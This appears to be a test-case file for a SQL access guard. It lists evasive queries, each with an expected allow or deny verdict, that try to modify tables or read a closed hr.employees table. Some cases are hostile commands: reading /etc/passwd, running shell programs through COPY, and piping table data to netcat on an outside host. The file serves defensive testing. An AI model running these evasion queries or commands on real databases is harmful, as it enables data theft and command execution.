-- more than one statement, or one inside another

select 1; delete from orders
--> deny

select 1; select 2; select * from hr.employees
--> deny hr-is-closed

begin; delete from orders; commit
--> deny

begin
--> allow
delete from orders where id = 1
--> deny
rollback
--> allow

commit; delete from orders; begin
--> deny

with gone as (delete from orders) select 1
--> deny

with gone as (delete from orders where id = 1 returning *) select * from gone
--> deny

with "select" as (delete from orders returning *) select * from "select"
--> deny

with a as (with b as (with c as (delete from orders returning 1) select * from c) select * from b) select * from a
--> deny

with a as (insert into audit_trail values (1, 'x') returning *) select 1
--> deny

with a as (update orders set total = 0 returning *) select 1 from a
--> deny

with a as materialized (select * from hr.employees) select count(*) from a
--> deny hr-is-closed

with recursive x as (select name from hr.employees union select * from x) select 1 from x
--> deny hr-is-closed

with hr_employees as (select 1), customers as (select * from hr.employees) select * from customers
--> deny hr-is-closed

explain analyze delete from orders
--> deny

explain (analyze, timing off) update orders set total = 0 where id = 1
--> deny

explain (analyze true) insert into audit_trail values (1, 'x')
--> deny

explain (analyze false, analyze true) delete from orders
--> deny

explain (analyze "on") delete from orders where id = 1
--> deny

explain (analyze 1) delete from orders where id = 1
--> deny

-- the server takes no such value
explain (analyze 0.5) delete from orders where id = 1
--> any

explain (analyze 'yes') delete from orders where id = 1
--> deny

explain analyze with a as (delete from orders returning *) select * from a
--> deny

explain analyze create table stolen as select * from hr.employees
--> deny

explain analyze select * from hr.employees
--> deny hr-is-closed

-- estimates and constants come from statistics
explain select * from hr.employees where salary > 100000
--> deny hr-is-closed

copy (delete from orders returning *) to stdout
--> deny

copy (select * from hr.employees) to stdout
--> deny hr-is-closed

copy hr.employees to stdout
--> deny hr-is-closed

copy hr.employees (salary) to stdout (format binary)
--> deny hr-is-closed

copy (with a as (update orders set total = 1 where id = 1 returning *) select * from a) to stdout
--> deny

copy orders from stdin
--> deny

copy audit_trail from '/etc/passwd'
--> deny

copy audit_trail from program 'id'
--> deny

copy (select 1) to program 'id > /tmp/tidewaiter-evasion'
--> deny

copy (select 1) to '/tmp/tidewaiter-evasion'
--> deny

copy customers to program 'nc example.com 1'
--> deny

select * into stolen from hr.employees
--> deny

create table stolen as select * from hr.employees
--> deny

create temp table stolen as select * from hr.employees
--> deny

create temp table stolen as table hr.employees with no data
--> deny

create materialized view stolen as select * from hr.employees
--> deny

create view stolen as select * from hr.employees
--> deny

create temp view stolen as select * from hr.employees
--> deny

create temp table stolen (like hr.employees including all)
--> deny

create temp table stolen () inherits (hr.employees)
--> deny

create schema authorization current_user create table t (id int)
--> deny

create schema s create view v as select * from hr.employees
--> deny

do 'begin delete from orders; end'
--> deny

do $$ begin execute 'del' || 'ete from orders'; end $$
--> deny

do language plpgsql 'begin perform purge(); end'
--> deny

call close_day(1)
--> deny

call archive('2026-01-01')
--> deny

declare c cursor with hold for select * from hr.employees
--> deny hr-is-closed

begin; declare c cursor for select name from hr.employees; fetch all c; commit
--> deny hr-is-closed

prepare p as delete from orders
--> deny

prepare p as select * from hr.employees; execute p
--> deny hr-is-closed

prepare p(int) as delete from orders where id = $1; execute p(1)
--> deny

create table stolen as execute nothing
--> deny

insert into audit_trail select id, name from customers
--> deny

insert into audit_trail values (1, 'x') on conflict do nothing
--> deny

merge into orders using customers on customers.id = orders.customer_id when matched then delete
--> deny

merge into orders o using (values (1)) v(id) on o.id = v.id when not matched then insert values (1, 1, 1, 'x')
--> deny

merge into orders o using (values (1)) v(id) on o.id = v.id when not matched by source then delete
--> deny

select 1 from orders for update
--> deny

select 1 from (select * from orders for share) x
--> deny

lock table orders in access exclusive mode
--> deny

values ((select max(salary) from hr.employees))
--> deny hr-is-closed

select status from orders union all select name from hr.employees
--> deny hr-is-closed

select id from orders where exists (select from hr.employees where salary > 100000)
--> deny hr-is-closed

select id from orders order by (select max(salary) from hr.employees)
--> deny hr-is-closed

select id from orders limit (select salary from hr.employees where id = 1)
--> deny hr-is-closed

select count(*) over w from orders window w as (partition by (select name from hr.employees limit 1))
--> deny hr-is-closed

select count(*) filter (where id in (select id from hr.employees)) from orders
--> deny hr-is-closed

select id from orders group by id having count(*) > (select count(*) from hr.employees)
--> deny hr-is-closed

select case when (select true from hr.employees where id = 1) then 1 end
--> deny hr-is-closed

select array(select name from hr.employees)
--> deny hr-is-closed

select x.* from orders, lateral (select * from hr.employees where id = orders.id) x
--> deny hr-is-closed

select * from orders natural join hr.employees
--> deny hr-is-closed

select * from orders tablesample system ((select 50 from hr.employees limit 1))
--> deny hr-is-closed

select * from only (hr.employees)
--> deny hr-is-closed

select * from hr.employees *
--> deny hr-is-closed

select employees from hr.employees
--> deny hr-is-closed

select (select employees from hr.employees where id = 1)::text
--> deny hr-is-closed

select row_to_json(e) from hr.employees e
--> deny hr-is-closed

select json_agg(e) from hr.employees e
--> deny hr-is-closed

select json_arrayagg((select name from hr.employees limit 1))
--> deny hr-is-closed

select json_object('k': (select name from hr.employees limit 1))
--> deny hr-is-closed

select xmlelement(name x, (select name from hr.employees limit 1))
--> deny hr-is-closed

select * from json_table('[1]'::jsonb, '$[*]' columns (a int path '$')) j, hr.employees
--> deny hr-is-closed

select * from xmltable('/a' passing (select xmlagg(xmlelement(name a, name)) from hr.employees) columns n text path '.')
--> deny hr-is-closed

select null::hr.employees
--> any

select 1 where 1 = any (select id from hr.employees)
--> deny hr-is-closed

select (array[1, (select salary from hr.employees limit 1)])[2]
--> deny hr-is-closed

select coalesce(null, nullif((select name from hr.employees limit 1), ''))
--> deny hr-is-closed

select grouping(a) from (select name as a from hr.employees) x group by rollup (a)
--> deny hr-is-closed

select * from orders o join lateral (select salary from hr.employees e where e.id = o.id) s on true
--> deny hr-is-closed
